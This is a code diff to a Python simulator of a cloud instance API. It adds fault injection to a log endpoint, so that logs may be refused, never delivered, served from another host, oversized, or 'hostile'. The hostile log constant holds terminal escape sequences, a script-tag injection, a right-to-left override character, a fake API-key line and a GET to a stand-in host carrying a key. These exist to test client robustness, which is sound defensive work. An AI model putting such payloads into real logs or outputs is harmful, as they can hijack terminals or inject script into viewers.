@@ -5,7 +5,7 @@ from collections.abc import Mapping
 
 from magister.simulator.calls import Call
 from magister.simulator.contracts import Contract
-from magister.simulator.faults import LISTING
+from magister.simulator.faults import LISTING, LOGS
 from magister.simulator.instance_view import instance_view
 from magister.simulator.listing import listing, page_from
 from magister.simulator.query import number
@@ -14,6 +14,13 @@ from magister.simulator.replies import Reply, reply
 from magister.simulator.simulation import Simulation
 
 LONGEST_LABEL = 1024
+ELSEWHERE = "http://192.0.2.1/"
+HOSTILE = (
+    b"\x1b]0;owned\x07\x1b[2J\x00\xff\xfe start\r\n"
+    b"GET http://203.0.113.7:8555/drop/5?key=0123456789abcdef0123456789abcdef\n"
+    b"CONTAINER_API_KEY=5ecre75ecre75ecre7\n"
+    b"<script>alert(1)</script> \xe2\x80\xae OCI runtime create failed\n"
+)
 DEPRECATED = Refused(
     410, "deprecated_endpoint", "This endpoint is deprecated. Use /api/v1/instances/ instead."
 )
@@ -113,11 +120,28 @@ def request_logs(sim: Simulation, call: Call) -> Reply:
     contract = sim.market.contracts.get(contract_id)
     if contract is None or not contract.live:
         raise Refused(404, "invalid_id", "Invalid instance id.")
+    fault = sim.faults.strike(LOGS, call.route, sim.market.now)
+    spoilt = "" if fault is None else fault.name
+    if spoilt == "logs_refused":
+        return reply({"success": False, "error": "server_error", "msg": "Could not request logs"})
     body: Mapping[str, object] = call.body if isinstance(call.body, dict) else {}
     name = f"{random.Random(f'{contract_id} {len(sim.logs)}').getrandbits(128):032x}"  # noqa: S311 - a file name
-    sim.logs[name] = (sim.market.now + sim.market.plan.log_delay_secs, _log_text(sim, contract, body))
-    url = f"{sim_url(call)}instance_logs/{name}.log"
+    delay = float("inf") if spoilt == "logs_never" else sim.market.plan.log_delay_secs
+    sim.logs[name] = (sim.market.now + delay, _spoilt_log(spoilt) or _log_text(sim, contract, body).encode())
+    server = ELSEWHERE if spoilt == "logs_elsewhere" else sim_url(call)
+    url = f"{server}instance_logs/{name}.log"
     return reply({"success": True, "result_url": url, "msg": "Log request sent"})
+
+
+def _spoilt_log(fault: str) -> bytes | None:
+    """Give what no honest log holds; None = nothing is to be spoilt."""
+    match fault:
+        case "logs_giant":
+            return b"".join(b"line %07d of a log that nobody asked for\n" % n for n in range(400_000))
+        case "logs_hostile":
+            return HOSTILE
+        case _:
+            return None
 
 
 def sim_url(call: Call) -> str:
@@ -139,7 +163,7 @@ def _log_text(sim: Simulation, contract: Contract, body: Mapping[str, object]) -
 
 def log_text(sim: Simulation, call: Call) -> Reply:
     """Give an uploaded log; 404 until it is there. Needs no key."""
-    ready, text = sim.logs.get(call.ident.removesuffix(".log"), (float("inf"), ""))
+    ready, text = sim.logs.get(call.ident.removesuffix(".log"), (float("inf"), b""))
     if sim.market.now < ready:
         return Reply(404, b"<Error><Code>NoSuchKey</Code></Error>", "application/xml")
-    return Reply(200, text.encode(), "text/plain")
+    return Reply(200, text, "text/plain")
